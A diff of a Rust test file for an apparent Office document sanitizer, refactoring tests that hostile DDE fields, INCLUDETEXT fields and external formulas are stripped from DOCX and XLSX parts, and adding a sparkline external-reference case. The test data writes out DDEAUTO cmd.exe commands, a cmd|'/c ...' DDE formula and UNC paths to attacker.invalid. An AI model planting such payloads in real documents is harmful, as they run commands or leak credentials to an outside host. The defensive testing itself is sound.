@@ -455,33 +455,7 @@ fn quarantines_a_macro_sheet_still_used_by_a_large_sheet_rewritten_in_parallel()
 // Issue #20, class 3: fields inside mc:AlternateContent, Office Math runs and nested stories.
 // ---------------------------------------------------------------------------------------------
 
-/// A marker carried by every hostile field and formula below: it must not survive anywhere.
-const MARK: &str = "MUKAIKA-MARK";
-
-/// A Word document that also binds the markup-compatibility, w14, math and VML namespaces.
-fn word_document_mc(body: &str) -> String {
-    format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document xmlns:w=\"{W}\" xmlns:r=\"{R_OFFICE}\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:w14=\"http://schemas.microsoft.com/office/word/2010/wordml\" xmlns:m=\"http://schemas.openxmlformats.org/officeDocument/2006/math\" xmlns:v=\"urn:schemas-microsoft-com:vml\" mc:Ignorable=\"w14\"><w:body>{body}<w:sectPr/></w:body></w:document>")
-}
-
-fn docx_of(body: &str) -> Vec<u8> {
-    Ooxml::default()
-        .part("word/document.xml", DOCX_MAIN, word_document_mc(body))
-        .rel("", "rId1", "officeDocument", "word/document.xml", false)
-        .build()
-}
-
-/// A complex field's pieces (begin, instruction, separate, result, end) as bare run content.
-fn field_chars(instr: &str, result: &str) -> String {
-    format!("<w:fldChar w:fldCharType=\"begin\"/><w:instrText xml:space=\"preserve\"> {instr} </w:instrText><w:fldChar w:fldCharType=\"separate\"/><w:t>{result}</w:t><w:fldChar w:fldCharType=\"end\"/>")
-}
-
-fn dde(n: u32) -> String {
-    format!("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k {MARK}-{n}\"")
-}
-
-fn include(n: u32) -> String {
-    format!("INCLUDETEXT &quot;\\\\\\\\attacker.invalid\\\\{MARK}-{n}.docx&quot;")
-}
+const MARK: &str = HIDDEN_MARK;
 
 /// Sanitizes a hostile document and checks the output everywhere: the marker and the field
 /// words are gone from every part, the kept text is there, and a second pass removes nothing.
@@ -509,18 +483,9 @@ fn removes_fields_inside_alternate_content_branches() {
     // Word reads the Choice (it knows w14); another reader reads the Fallback. At run level
     // each branch holds bare run content — a whole complex field, or a simple field — that a
     // walk looking only at w:r children never sees; at paragraph level each holds runs.
-    let body = format!(
-        "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"w14\">{}</mc:Choice><mc:Fallback><w:fldSimple w:instr=\" {} \"><w:r><w:t>代替の結果</w:t></w:r></w:fldSimple></mc:Fallback></mc:AlternateContent></w:r></w:p>\
-         <w:p><mc:AlternateContent><mc:Choice Requires=\"w14\"><w:fldSimple w:instr=\" {} \"><w:r><w:t>単純の結果</w:t></w:r></w:fldSimple><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> {} </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></mc:Choice><mc:Fallback><w:r><w:t>段落の代替</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>{}",
-        field_chars(&dde(1), "選択肢の結果"),
-        include(2),
-        include(3),
-        dde(4),
-        para("本文"),
-    );
     let outcome = assert_fields_gone(
         "代替.docx",
-        &docx_of(&body),
+        &docx_with_fields_in_alternate_content(),
         &[
             "選択肢の結果",
             "代替の結果",
@@ -542,16 +507,11 @@ fn removes_fields_inside_alternate_content_branches() {
 
 #[test]
 fn removes_fields_inside_office_math_runs() {
-    let math_run = |inner: &str| format!("<m:r>{inner}</m:r>");
-    let body = format!(
-        "<w:p><m:oMathPara><m:oMath>{}{}{}{}{}<m:r><m:t>x=1</m:t></m:r></m:oMath></m:oMathPara></w:p>",
-        math_run("<w:fldChar w:fldCharType=\"begin\"/>"),
-        math_run(&format!("<w:instrText xml:space=\"preserve\"> {} </w:instrText>", dde(5))),
-        math_run("<w:fldChar w:fldCharType=\"separate\"/>"),
-        math_run("<m:t>数式の結果</m:t>"),
-        math_run("<w:fldChar w:fldCharType=\"end\"/>"),
+    let outcome = assert_fields_gone(
+        "数式.docx",
+        &docx_with_field_in_math(),
+        &["数式の結果", "x=1"],
     );
-    let outcome = assert_fields_gone("数式.docx", &docx_of(&body), &["数式の結果", "x=1"]);
     assert!(
         removed(&outcome, What::Field, "DDEAUTO"),
         "{:#?}",
@@ -561,11 +521,11 @@ fn removes_fields_inside_office_math_runs() {
 
 #[test]
 fn removes_fields_in_a_text_box_inside_a_run() {
-    let body = format!(
-        "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> {} </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>枠内の結果</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
-        dde(6),
+    let outcome = assert_fields_gone(
+        "枠.docx",
+        &docx_with_field_in_text_box(),
+        &["枠内の結果", "txbxContent"],
     );
-    let outcome = assert_fields_gone("枠.docx", &docx_of(&body), &["枠内の結果", "txbxContent"]);
     assert!(removed(&outcome, What::Field, "DDEAUTO"));
 }
 
@@ -575,10 +535,10 @@ fn quarantines_a_field_left_open_inside_an_alternate_content_branch() {
     // must open and close inside one story, or the document waits in quarantine.
     let body = format!(
         "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"w14\"><w:fldChar w:fldCharType=\"begin\"/><w:instrText> {} </w:instrText></mc:Choice><mc:Fallback><w:t>x</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>{}",
-        dde(7),
+        dde_instr(7),
         para("本文"),
     );
-    let outcome = process(&docx_of(&body), "open.docx");
+    let outcome = process(&docx_mc(&body), "open.docx");
     assert_eq!(
         outcome.report.verdict,
         Verdict::Quarantined,
@@ -684,6 +644,7 @@ fn removes_outside_formulas_from_cells_validation_conditional_formats_extensions
          <extLst>\
          <ext uri=\"{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}\"><x14:dataValidations count=\"1\"><x14:dataValidation type=\"list\"><x14:formula1><xm:f>cmd|'/c {MARK}-x1'!A0</xm:f></x14:formula1><xm:sqref>H1</xm:sqref></x14:dataValidation></x14:dataValidations></ext>\
          <ext uri=\"{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}\"><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\" priority=\"4\" id=\"{{00000000-0000-0000-0000-000000000001}}\"><xm:f>HYPERLINK(\"\\\\attacker.invalid\\{MARK}-x2\")</xm:f></x14:cfRule><xm:sqref>H2</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext>\
+         <ext uri=\"{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}\"><x14:sparklineGroups><x14:sparklineGroup><x14:colorSeries rgb=\"FF376092\"/><x14:sparklines><x14:sparkline><xm:f>'[1]{MARK}-s1'!A1:A3</xm:f><xm:sqref>J1</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext>\
          </extLst>"
     );
     let outcome = assert_formulas_gone("集計.xlsx", &xlsx_of(&names, &sheet));
@@ -700,6 +661,7 @@ fn removes_outside_formulas_from_cells_validation_conditional_formats_extensions
         (What::ExternalReference, "data validation G1"),
         (What::Field, "data validation H1"),
         (What::Hyperlink, "conditional format H2"),
+        (What::ExternalReference, "sparkline J1"),
     ] {
         assert!(
             removed(&outcome, what, needle),
@@ -709,7 +671,7 @@ fn removes_outside_formulas_from_cells_validation_conditional_formats_extensions
     }
     assert_eq!(
         outcome.report.removed.len(),
-        12,
+        13,
         "{:#?}",
         outcome.report.removed
     );
